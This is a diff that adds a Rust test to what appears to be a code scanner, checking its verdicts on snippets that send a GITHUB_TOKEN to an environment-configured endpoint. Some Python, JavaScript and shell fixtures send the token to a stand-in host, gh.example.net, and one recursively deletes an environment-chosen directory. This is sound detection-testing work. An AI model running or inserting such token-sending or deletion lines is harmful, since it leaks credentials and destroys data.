@@ -592,3 +592,53 @@ fn values_built_through_comprehensions_and_splats() {
         "",
     );
 }
+
+/// Where a service lives, read from the environment (issue 17): the script's default, or the
+/// documented API of the service the setting is named after.
+#[test]
+fn endpoint_settings_from_the_environment() {
+    let gh = "import os, requests\nT = os.environ['GITHUB_TOKEN']\n";
+    for (api, verdict, category) in [
+        ("os.environ.get('GITHUB_API_URL', 'https://api.github.com')", Clean, ""),
+        ("os.environ.get('API_URL', 'https://api.github.com')", Clean, ""),
+        ("os.environ['GITHUB_API_URL']", Clean, ""),
+        ("os.getenv('GITHUB_API_URL', 'https://gh.example.net')", Dangerous, "exfiltration"),
+        ("os.environ.get('API_URL', 'https://gh.example.net')", Dangerous, "exfiltration"),
+    ] {
+        let code = format!(
+            "{gh}API = {api}\nrequests.get(API + '/user', headers={{'Authorization': 'token ' + T}})\n"
+        );
+        check(Py, &code, verdict, category);
+    }
+    check(
+        Js,
+        "const API = process.env.API_URL || 'https://api.github.com';\nfetch(`${API}/user`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\n",
+        Clean,
+        "",
+    );
+    check(
+        Js,
+        "const API = process.env.API_URL ?? 'https://gh.example.net';\nfetch(`${API}/user`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\n",
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Sh,
+        "API=\"${API_URL:-https://api.github.com}\"\ncurl -H \"Authorization: Bearer $GITHUB_TOKEN\" \"$API/user\" -o user.json\n",
+        Clean,
+        "",
+    );
+    check(
+        Sh,
+        "API=\"${API_URL:-https://gh.example.net}\"\ncurl -H \"Authorization: Bearer $GITHUB_TOKEN\" \"$API/user\" -o user.json\n",
+        Dangerous,
+        "exfiltration",
+    );
+    // A path setting keeps both values: the default and whatever the environment says.
+    check(
+        Py,
+        "import os, shutil\nshutil.rmtree(os.environ.get('OUT_DIR', 'dist'))\n",
+        Suspicious,
+        "destructive",
+    );
+}
